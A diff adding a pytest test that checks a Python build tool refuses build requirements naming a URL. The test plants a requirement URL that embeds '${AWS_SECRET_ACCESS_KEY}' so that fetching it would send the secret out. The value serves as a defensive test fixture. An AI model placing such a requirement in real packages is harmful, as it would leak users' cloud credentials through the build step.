@@ -166,6 +166,27 @@ BAD_SYSTEMS = {
 }
 
 
+_URL = "leak @ http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/leak-1.0-py3-none-any.whl"
+
+
+@pytest.mark.parametrize("hook", [False, True])
+def test_a_requirement_that_names_a_url_is_refused_wherever_it_stands(
+    tmp_path: Path, tools: BuildTools, hook: bool
+) -> None:
+    """uv would put the user's variables into it, and fetch it with the user's network."""
+    files = sources("demo")
+    if hook:
+        text = str(files["backend/backend.py"])
+        files["backend/backend.py"] = text.replace("return []", f"return [{_URL!r}]", 1)
+    else:
+        text = str(files["pyproject.toml"])
+        files["pyproject.toml"] = text.replace("requires = []", f"requires = ['{_URL}']")
+    error = refused(make_sdist(tmp_path, "demo", files=files), tools)
+    assert error.code == "E-BUILD-REQUIRES-URL"
+    assert "demo" in error.message
+    assert not any(value in f"{error.message}{error.places}" for value in SECRETS.values())
+
+
 @pytest.mark.parametrize("case", list(BAD_SYSTEMS))
 def test_a_broken_build_system_is_refused_by_name(tmp_path: Path, tools: BuildTools, case: str) -> None:
     text, code = BAD_SYSTEMS[case]
